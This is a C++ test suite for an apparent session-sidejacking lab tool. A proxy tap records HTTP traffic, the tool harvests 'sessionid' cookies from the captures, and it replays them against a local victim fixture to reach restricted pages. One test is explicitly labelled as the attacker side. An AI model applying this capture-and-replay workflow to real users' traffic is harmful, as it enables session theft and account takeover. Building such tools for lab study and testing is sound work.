#include <mutex>
#include <random>
#include <thread>

#include "doctest.h"
#include "stackprobe/capture.hpp"
#include "stackprobe/errors.hpp"
#include "stackprobe/sidejack.hpp"
#include "stackprobe/victim.hpp"
#include "test_util.hpp"

using namespace stackprobe;
using capture::CaptureReader;
using capture::CaptureWriter;
using capture::Direction;
using sidejack::CapturedSession;
using sidejack::ProxyTap;
using testutil::TempDir;
using testutil::VictimFixture;

namespace {

// Scripted request/response pair bytes for synthetic captures.
std::string request_bytes(const std::string& target,
                          const std::string& cookie = "") {
  std::string req = "GET " + target + " HTTP/1.1\r\n";
  req += "Host: victim.test:80\r\n";
  if (!cookie.empty()) req += "Cookie: " + cookie + "\r\n";
  req += "Connection: close\r\n\r\n";
  return req;
}

std::string response_bytes(const std::string& set_cookie,
                           const std::string& body = "ok") {
  std::string resp = "HTTP/1.1 200 OK\r\n";
  if (!set_cookie.empty()) resp += "Set-Cookie: " + set_cookie + "\r\n";
  resp += "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n";
  resp += body;
  return resp;
}

}  // namespace

TEST_CASE("capture files round-trip frames in order") {
  TempDir dir("capture");
  std::string path = dir.file("session.spc");
  {
    CaptureWriter writer(path);
    writer.append(Direction::client_to_server, "hello");
    writer.append(Direction::server_to_client, "world");
    writer.append(Direction::client_to_server, "");
    writer.flush();
  }
  std::size_t warnings = 0;
  auto frames = capture::read_all(path, &warnings);
  REQUIRE(frames.size() == 3);
  CHECK(warnings == 0);
  CHECK(frames[0].direction == Direction::client_to_server);
  CHECK(frames[0].payload == "hello");
  CHECK(frames[1].direction == Direction::server_to_client);
  CHECK(frames[1].payload == "world");
  CHECK(frames[2].payload.empty());
}

TEST_CASE("bad magic and missing files raise CaptureOpenError") {
  TempDir dir("capture-bad");
  CHECK_THROWS_AS(CaptureReader(dir.file("missing.spc")), CaptureOpenError);
  testutil::write_file(dir.file("junk.spc"), "NOPE....");
  CHECK_THROWS_AS(CaptureReader(dir.file("junk.spc")), CaptureOpenError);
}

TEST_CASE("invalid direction bytes are skipped with a warning") {
  TempDir dir("capture-skip");
  std::string path = dir.file("noisy.spc");
  {
    CaptureWriter writer(path);
    writer.append(Direction::client_to_server, "ab");
  }
  // Append a lone garbage byte that can never start a frame.
  {
    std::ofstream out(path, std::ios::binary | std::ios::app);
    out.put(0x7F);
  }
  std::size_t warnings = 0;
  auto frames = capture::read_all(path, &warnings);
  CHECK(frames.size() == 1);
  CHECK(warnings == 1);
}

TEST_CASE("truncated trailing frames end the stream with a warning") {
  TempDir dir("capture-trunc");
  std::string path = dir.file("cut.spc");
  {
    CaptureWriter writer(path);
    writer.append(Direction::client_to_server, "complete");
  }
  {
    std::ofstream out(path, std::ios::binary | std::ios::app);
    char partial[3] = {0, 0, 0};  // direction + 2 of 4 length bytes
    out.write(partial, sizeof(partial));
  }
  std::size_t warnings = 0;
  auto frames = capture::read_all(path, &warnings);
  CHECK(frames.size() == 1);
  CHECK(warnings == 1);
}

TEST_CASE("harvest finds a set-cookie session and pairs it with its URL") {
  std::vector<capture::Frame> frames;
  frames.push_back({Direction::client_to_server, request_bytes("/login")});
  frames.push_back(
      {Direction::server_to_client,
       response_bytes("sessionid=deadbeef1234; Path=/", "welcome")});
  auto sessions = sidejack::harvest_frames(frames);
  REQUIRE(sessions.size() == 1);
  CHECK(sessions[0].cookie_name == "sessionid");
  CHECK(sessions[0].cookie_value == "deadbeef1234");
  CHECK(sessions[0].url == "http://victim.test:80/login");
  CHECK(sessions[0].source_client == "-");
  CHECK(sessions[0].observed_at == "1970-01-01T00:00:00Z");
}

TEST_CASE("harvest of an empty capture is empty") {
  TempDir dir("capture-empty");
  std::string path = dir.file("empty.spc");
  { CaptureWriter writer(path); }
  CHECK(sidejack::harvest_capture(path).empty());
}

TEST_CASE("three distinct logins harvest as three ordered sessions") {
  std::vector<capture::Frame> frames;
  for (int i = 1; i <= 3; ++i) {
    frames.push_back({Direction::client_to_server, request_bytes("/login")});
    frames.push_back({Direction::server_to_client,
                      response_bytes("sessionid=token" + std::to_string(i))});
  }
  auto sessions = sidejack::harvest_frames(frames);
  REQUIRE(sessions.size() == 3);
  CHECK(sessions[0].cookie_value == "token1");
  CHECK(sessions[1].cookie_value == "token2");
  CHECK(sessions[2].cookie_value == "token3");
  // Timestamps are synthetic but strictly ordered.
  CHECK(sessions[0].observed_at < sessions[1].observed_at);
  CHECK(sessions[1].observed_at < sessions[2].observed_at);
}

TEST_CASE("cookie headers on requests are harvested with their own URL") {
  std::vector<capture::Frame> frames;
  frames.push_back(
      {Direction::client_to_server,
       request_bytes("/restricted/images", "sessionid=feedface")});
  auto sessions = sidejack::harvest_frames(frames);
  REQUIRE(sessions.size() == 1);
  CHECK(sessions[0].cookie_value == "feedface");
  CHECK(sessions[0].url == "http://victim.test:80/restricted/images");
}

TEST_CASE("non-HTTP bytes in a capture are skipped, never fatal") {
  std::vector<capture::Frame> frames;
  frames.push_back({Direction::client_to_server,
                    std::string("\x01\x02binary noise\r\n\r\n", 18)});
  frames.push_back({Direction::client_to_server, request_bytes("/login")});
  frames.push_back({Direction::server_to_client,
                    response_bytes("sessionid=stillfound")});
  auto sessions = sidejack::harvest_frames(frames);
  REQUIRE(sessions.size() == 1);
  CHECK(sessions[0].cookie_value == "stillfound");
}

TEST_CASE("other cookie names are ignored") {
  std::vector<capture::Frame> frames;
  frames.push_back({Direction::client_to_server, request_bytes("/login")});
  frames.push_back({Direction::server_to_client,
                    response_bytes("csrftoken=zzz; Path=/")});
  CHECK(sidejack::harvest_frames(frames).empty());
}

TEST_CASE("property: N distinct session cookies harvest as exactly N") {
  std::mt19937 rng(777);
  for (int round = 0; round < 20; ++round) {
    std::size_t n = std::uniform_int_distribution<std::size_t>(0, 12)(rng);
    std::vector<capture::Frame> frames;
    for (std::size_t i = 0; i < n; ++i) {
      frames.push_back({Direction::client_to_server, request_bytes("/login")});
      frames.push_back(
          {Direction::server_to_client,
           response_bytes("sessionid=t" + std::to_string(rng()))});
      if (rng() % 2 == 0) {  // interleave cookie-free noise traffic
        frames.push_back(
            {Direction::client_to_server, request_bytes("/other")});
        frames.push_back({Direction::server_to_client, response_bytes("")});
      }
    }
    auto sessions = sidejack::harvest_frames(frames);
    CHECK(sessions.size() == n);
  }
}

TEST_CASE("session store round-trips and rejects malformed lines") {
  TempDir dir("store");
  std::string path = dir.file("sessions.txt");

  CapturedSession a{"http://h:1/login", "sessionid", "abc",
                    "1970-01-01T00:00:00Z", "-"};
  CapturedSession b{"http://h:1/x", "sessionid", "def",
                    "1970-01-01T00:00:01Z", "127.0.0.1:5555"};
  sidejack::save_session_store(path, {a, b});
  auto loaded = sidejack::load_session_store(path);
  REQUIRE(loaded.size() == 2);
  CHECK(loaded[0] == a);
  CHECK(loaded[1] == b);

  // A malformed middle line names its own line number.
  testutil::write_file(path, sidejack::session_store_line(a) + "\n" +
                                 "not\ta\tvalid\n" +
                                 sidejack::session_store_line(b) + "\n");
  try {
    sidejack::load_session_store(path);
    FAIL("expected StoreParseError");
  } catch (const StoreParseError& e) {
    CHECK(e.line() == 2);
  }
}

TEST_CASE("single-line store loads one session") {
  TempDir dir("store-one");
  std::string path = dir.file("one.txt");
  testutil::write_file(
      path, "1970-01-01T00:00:00Z\t-\thttp://h:1/\tsessionid\tv\n");
  auto loaded = sidejack::load_session_store(path);
  REQUIRE(loaded.size() == 1);
  CHECK(loaded[0].cookie_value == "v");
}

TEST_CASE("proxy tap is byte-transparent and its capture is faithful") {
  // Deterministic canned upstream: one fixed response per connection.
  const std::string canned =
      "HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\n"
      "fixed";
  std::atomic<bool> stop{false};
  net::Listener upstream("127.0.0.1", 0);
  std::thread upstream_thread([&] {
    while (!stop.load()) {
      auto sock = upstream.accept(stop, net::Millis(20));
      if (!sock) continue;
      sock->set_recv_timeout(net::Millis(500));
      std::string req;
      while (req.find("\r\n\r\n") == std::string::npos) {
        if (sock->recv_some(req) != net::Socket::RecvStatus::data) break;
      }
      sock->send_all(canned);
      sock->close();
    }
  });

  TempDir dir("proxy");
  std::string capture_path = dir.file("tap.spc");
  ProxyTap::Options options;
  options.upstream_host = "127.0.0.1";
  options.upstream_port = upstream.port();
  options.capture_path = capture_path;
  ProxyTap tap(options);
  tap.start();

  const std::string request = request_bytes("/anything");

  // Direct exchange.
  std::string direct;
  {
    net::Socket sock = net::connect_to("127.0.0.1", upstream.port());
    sock.send_all(request);
    while (sock.recv_some(direct) == net::Socket::RecvStatus::data) {
    }
  }
  // Proxied exchange.
  std::string proxied;
  {
    net::Socket sock = net::connect_to("127.0.0.1", tap.port());
    sock.send_all(request);
    while (sock.recv_some(proxied) == net::Socket::RecvStatus::data) {
    }
  }
  tap.stop();
  stop.store(true);
  upstream_thread.join();

  CHECK(direct == canned);
  CHECK(proxied == direct);

  // The capture file replays exactly what crossed the wire.
  auto frames = capture::read_all(capture_path);
  std::string to_server;
  std::string to_client;
  for (const auto& f : frames) {
    (f.direction == Direction::client_to_server ? to_server : to_client) +=
        f.payload;
  }
  CHECK(to_server == request);
  CHECK(to_client == canned);
}

TEST_CASE("end to end: proxied login is harvestable and replayable") {
  VictimFixture fx;

  TempDir dir("proxy-victim");
  std::string capture_path = dir.file("login.spc");
  ProxyTap::Options options;
  options.upstream_host = fx.host();
  options.upstream_port = fx.port();
  options.capture_path = capture_path;
  ProxyTap tap(options);
  tap.start();

  // The user logs in THROUGH the proxy, then browses a restricted page.
  auto token = testutil::login("127.0.0.1", tap.port(), "Test_User_1",
                               "password1");
  REQUIRE(token.has_value());
  auto page = testutil::http_get("127.0.0.1", tap.port(),
                                 "/restricted/images",
                                 {{"Cookie", "sessionid=" + *token}});
  CHECK(page.status == 200);
  tap.stop();

  // Attacker side: harvest the capture, replay while still logged in.
  auto sessions = sidejack::harvest_capture(capture_path);
  REQUIRE(sessions.size() >= 1);
  CHECK(sessions[0].cookie_value == *token);

  std::string url = "http://" + fx.host() + ":" +
                    std::to_string(fx.port()) + "/restricted/images";
  auto attempt = sidejack::replay(
      sessions[0], url, "restricted images data for Test_User_1");
  CHECK(attempt.status == 200);
  CHECK(attempt.body_marker_found);
  CHECK(attempt.success());

  // The user logs out; the rotated session must stop working.
  testutil::http_post_form(fx.host(), fx.port(), "/logout", {},
                           {{"Cookie", "sessionid=" + *token}});
  auto stale = sidejack::replay(
      sessions[0], url, "restricted images data for Test_User_1");
  CHECK(stale.status == 403);
  CHECK_FALSE(stale.success());
}

TEST_CASE("replaying a never-issued token fails") {
  VictimFixture fx;
  CapturedSession fake{"http://x/", "sessionid",
                       "0123456789abcdef0123456789abcdef", "now", "-"};
  std::string url = "http://" + fx.host() + ":" +
                    std::to_string(fx.port()) + "/restricted/images";
  auto attempt = sidejack::replay(fake, url, "restricted");
  CHECK(attempt.status == 403);
  CHECK_FALSE(attempt.success());
}

TEST_CASE("live proxy sessions carry the client address") {
  VictimFixture fx;
  std::mutex mu;
  std::vector<CapturedSession> live;
  ProxyTap::Options options;
  options.upstream_host = fx.host();
  options.upstream_port = fx.port();
  options.on_session = [&](const CapturedSession& s) {
    std::lock_guard<std::mutex> lock(mu);
    live.push_back(s);
  };
  ProxyTap tap(options);
  tap.start();

  auto token =
      testutil::login("127.0.0.1", tap.port(), "admin", "adminpassword");
  REQUIRE(token.has_value());
  tap.stop();

  std::lock_guard<std::mutex> lock(mu);
  REQUIRE(live.size() == 1);
  CHECK(live[0].cookie_value == *token);
  CHECK(live[0].source_client.find("127.0.0.1:") == 0);
  CHECK(tap.connections_handled() == 1);
}

TEST_CASE("url parser splits host, port and path") {
  auto u = sidejack::parse_url("http://10.0.0.1:8080/a/b?c=1");
  CHECK(u.host == "10.0.0.1");
  CHECK(u.port == 8080);
  CHECK(u.path == "/a/b?c=1");
  auto bare = sidejack::parse_url("http://example.test/x");
  CHECK(bare.port == 80);
  CHECK(bare.path == "/x");
  CHECK_THROWS_AS(sidejack::parse_url("http:///nope"), Error);
}
